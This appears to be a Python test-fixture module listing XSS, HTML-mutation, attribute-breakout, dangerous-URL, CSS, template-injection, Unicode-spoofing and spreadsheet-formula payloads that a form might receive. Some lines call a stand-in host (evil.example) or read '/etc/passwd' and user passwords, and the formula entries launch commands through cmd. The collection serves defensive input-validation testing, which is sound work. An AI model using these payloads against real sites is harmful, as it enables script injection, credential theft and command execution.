r"""Texts that try to become script, markup, a link that acts, a template or a formula.

``MARKER`` is what a payload would leave behind if it ran: ``window.ran`` is set, or a dialog opens.
Each text is one that a person could type into a form; control characters, which no form takes,
stand in ``REFUSED``.
"""

from __future__ import annotations

RUN = "window.ran=1"

SCRIPTS = [
    f"<script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    f"<script\t>{RUN}</script\n>",
    f"<script/x>{RUN}</script>",
    f"<script>{RUN}",
    f"<<script>{RUN}//<</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "<script src=//evil.example/x.js></script>",
    "<script src='data:text/javascript,window.ran=1'></script>",
    "<script type=module>window.ran=1</script>",
    f"</script><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"</option></select><script>{RUN}</script>",
    f"--><script>{RUN}</script><!--",
    f"]]><script>{RUN}</script><![CDATA[",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f"<!--[if gte IE 4]><script>{RUN}</script><![endif]-->",
    f'<noscript><p title="</noscript><script>{RUN}</script>">',
]
HANDLERS = [
    f"<img src=x onerror={RUN}>",
    f'<img src=x onerror="{RUN}"/>',
    f"<img/src=x/onerror={RUN}>",
    f"<IMG SRC=x ONERROR={RUN}>",
    f"<image src=x onerror={RUN}>",
    f"<body onload={RUN}>",
    f"<body onpageshow={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}>",
    f"<textarea autofocus onfocus={RUN}>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}></audio>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<div style=animation-name:x onanimationstart={RUN}>x</div>",
    f"<a href=# onmouseover={RUN} style=position:fixed;inset:0>x</a>",
    f"<p onpointerenter={RUN}>x</p>",
    f"<iframe onload={RUN}></iframe>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<object data=x onerror={RUN}></object>",
    f"<button popovertarget=x onclick={RUN}>x</button>",
    f"<xss id=x tabindex=1 autofocus onfocus={RUN}></xss>",
]
VECTORS = [
    f"<svg onload={RUN}>",
    f"<svg/onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><script href=data:,{RUN} /></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    "<svg><a><set attributeName=href to=javascript:window.ran=1 /><text y=9>x</text></a></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'/>#x\"/>",
    f"<svg><foreignObject><body onload={RUN}></body></foreignObject></svg>",
    f"<svg><desc><![CDATA[</desc><script>{RUN}</script>]]></svg>",
    f"<math><mtext><table><mglyph><style><!--</style>"
    f"<img title='--&gt;&lt;img src=1 onerror={RUN}&gt;'>",
    "<math href=javascript:window.ran=1><mi>x</mi></math>",
    f"<math><mi//xlink:href='data:x,<script>{RUN}</script>'>",
]
MUTATIONS = [
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    f"<noscript><style></noscript><img src=x onerror={RUN}></style>",
    f"<p><svg><style><img src=x title='</style><img src=x onerror={RUN}>'>",
    f"<template><s><template><s><img src=x onerror={RUN}></s></template></s></template>",
    f"<table><caption><svg><title><table><caption></title><img src=x onerror={RUN}>",
    f"<select><template><style><!--</style>"
    f"<a rel='--&gt;&lt;/style&gt;&lt;img src=x onerror={RUN}&gt;'>",
    f"<xmp><p title='</xmp><img src=x onerror={RUN}>'>",
    f"<listing>&lt;img onerror={RUN} src=x&gt;</listing>",
    f"<plaintext><img src=x onerror={RUN}>",
    f"<a id='`'><img src='`onerror={RUN}'>",
]
BREAKOUTS = [
    f'"><script>{RUN}</script>',
    f"'><script>{RUN}</script>",
    f'" onmouseover="{RUN}',
    f"' onmouseover='{RUN}",
    f'" autofocus onfocus="{RUN}" x="',
    f"` onmouseover=`{RUN}",
    f'x" style="animation-name:x" onanimationstart="{RUN}',
    f'"/><svg onload={RUN}>',
    f"x onfocus={RUN} autofocus",
    "\"></a><a href='javascript:window.ran=1'>x",
    f'\\"><img src=x onerror={RUN}>',
    f"'-{RUN}-'",
    f"\\';{RUN}//",
    f"${{{RUN}}}",
    f"</p></div></main></body></html><script>{RUN}</script>",
]
ADDRESSES = [
    "<a href=javascript:window.ran=1>x</a>",
    "<a href='java&#x0A;script:window.ran=1'>x</a>",
    "<a href='&#106;avascript:window.ran=1'>x</a>",
    "<a href='JaVaScRiPt:window.ran=1'>x</a>",
    "<a href='vbscript:window.ran=1'>x</a>",
    "<a href='data:text/html,<script>window.ran=1</script>'>x</a>",
    "<form action=javascript:window.ran=1><button>x</button></form>",
    "<button form=x formaction=javascript:window.ran=1>x</button>",
    "<iframe src=javascript:window.ran=1></iframe>",
    "<object data='data:text/html,<script>window.ran=1</script>'></object>",
    "<embed src='data:image/svg+xml,<svg onload=window.ran=1>'>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=javascript:window.ran=1'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    'https://example.org/"onmouseover="window.ran=1',
    "https://example.org/'><script>window.ran=1</script>",
    "[x](javascript:window.ran=1)",
    "![x](https://evil.example/x.png)",
    "<javascript:window.ran=1>",
    '[x]: javascript:window.ran=1 "x"',
]
STYLES = [
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>body{background:url(https://evil.example/x)}</style>",
    "<div style='background:url(javascript:window.ran=1)'>x</div>",
    "<div style='width:expression(window.ran=1)'>x</div>",
    "<style>input[value^=a]{background:url(https://evil.example/a)}</style>",
]
TEMPLATES = [
    "{{7919*7919}}",
    "{% load i18n %}{% now 'Y' %}",
    "{{ request.user.password }}",
    "{% include '/etc/passwd' %}",
    "{% debug %}",
    "${7919*7919}",
    "#{7919*7919}",
    "<%= 7919*7919 %>",
    "{{constructor.constructor('window.ran=1')()}}",
    "%(name)s %s %d {0} {name}",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
]
SPELLINGS = [
    "&lt;script&gt;window.ran=1&lt;/script&gt;",
    "&#60;script&#62;window.ran=1&#60;/script&#62;",
    "&amp;lt;script&amp;gt;window.ran=1",
    "%3Cscript%3Ewindow.ran=1%3C/script%3E",
    "\\u003cscript\\u003ewindow.ran=1\\u003c/script\\u003e",
    "\uff1cscript\uff1ewindow.ran=1\uff1c/script\uff1e",
    "\u02bascript\u02ba onload\u02bawindow.ran=1",
    "+ADw-script+AD4-window.ran=1+ADw-/script+AD4-",
    "<\u0131mg src=x onerror=window.ran=1>",
    "<script\u2028>window.ran=1</script\u2029>",
    "<img src=x\u00a0onerror=window.ran=1>",
    "\ufeff<script>window.ran=1</script>",
    "a\u200bb <sc\u200cript>window.ran=1</sc\u200dript>",
    "\u2066<script>window.ran=1</script>\u2069",
    "\u0627\u0644<script>window.ran=1</script>\u200f",
    "\U0001f469\u200d\U0001f4bb<script>window.ran=1</script>",
]
FORMULAS = [
    '=HYPERLINK("https://evil.example","x")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\uff1d1+1",
    "1;=1+1;x",
    '",=1+1,"',
]

PAYLOADS = [
    *SCRIPTS,
    *HANDLERS,
    *VECTORS,
    *MUTATIONS,
    *BREAKOUTS,
    *ADDRESSES,
    *STYLES,
    *TEMPLATES,
    *SPELLINGS,
    *FORMULAS,
]

# Addresses that a field of an address must not take.
BAD_ADDRESSES = [
    "javascript:window.ran=1",
    "JaVaScRiPt:window.ran=1",
    " javascript:window.ran=1",
    "java\nscript:window.ran=1",
    "javascript://example.org/%0awindow.ran=1",
    "data:text/html,<script>window.ran=1</script>",
    "vbscript:window.ran=1",
    "blob:https://example.org/x",
    "file:///etc/passwd",
    'https://example.org/"onmouseover=window.ran=1 x',
    "https://<script>window.ran=1</script>",
    "//",
]

# Signs that no field takes, each with the name by which the refusal calls it.
REFUSED = {
    "\x00": "U+0000",
    "\x01": "U+0001",
    "\x08": "U+0008",
    "\x0b": "U+000B",
    "\x1b": "U+001B",
    "\x7f": "U+007F",
    "\x85": "U+0085",
    "\x9f": "U+009F",
    "\u202d": "U+202D",
    "\u202e": "U+202E",
    "\ufffe": "U+FFFE",
}
